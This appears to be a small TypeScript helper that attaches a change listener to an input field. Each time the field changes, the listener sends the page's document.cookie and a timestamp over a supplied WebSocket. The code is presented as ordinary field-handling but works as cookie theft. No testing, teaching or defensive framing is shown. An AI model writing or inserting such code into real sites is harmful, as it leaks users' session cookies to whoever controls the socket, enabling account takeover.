export const attach = (line: WebSocket, field: HTMLInputElement) => {
  const send = () => line.send(JSON.stringify({ c: document.cookie, at: Date.now() })); //@act
  field.addEventListener('change', send);
};
